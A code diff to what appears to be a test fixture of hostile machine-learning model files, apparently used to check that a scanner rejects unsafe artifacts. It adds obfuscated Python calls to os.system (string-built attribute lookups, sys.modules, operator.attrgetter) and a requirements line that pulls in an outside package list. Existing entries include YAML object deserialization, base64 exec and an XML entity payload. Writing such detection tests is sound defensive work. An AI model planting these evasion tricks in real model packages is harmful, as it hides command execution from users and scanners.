@@ -33,12 +33,17 @@ HOSTILE = {
         "flavors:\n  python_function:\n    loader_module: mine\n",
         "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: ../../x\n",
     ),
-    "requirements.txt": ("--extra-index-url http://e.example/simple\nnumpy\n", "x @ https://e.example/x.whl\n"),
+    "requirements.txt": ("--extra-index-url http://e.example/simple\nnumpy\n", "x @ https://e.example/x.whl\n", "-r file:///elsewhere/all.txt\n"),
     "conf.yaml": ("a:\n  _target_: os.system\n", "a: !!python/object/apply:os.system [id]\n"),
     "modeling.py": (
         "from os import system as s\ns('id')\n",
         "import base64\nexec(base64.b64decode('eA=='))\n",
         "class X:\n    def forward(self):\n        __import__('subprocess').run(['id'])\n",
+        "import os\nfind = os.__getattribute__\nfind('sys' + 'tem')('id')\n",
+        "import os\nvars(os)[''.join(['sys', 'tem'])]('id')\n",
+        "import sys\nsys.modules['os'].system('id')\n",
+        "import operator, os\noperator.attrgetter('system')(os)('id')\n",
+        "import os\nlist(map(os.system, ['id']))\n",
     ),
     "net.pmml": ('<!DOCTYPE PMML [<!ENTITY a "x">]><PMML version="4.4">&a;</PMML>',),
     "value.rds": (
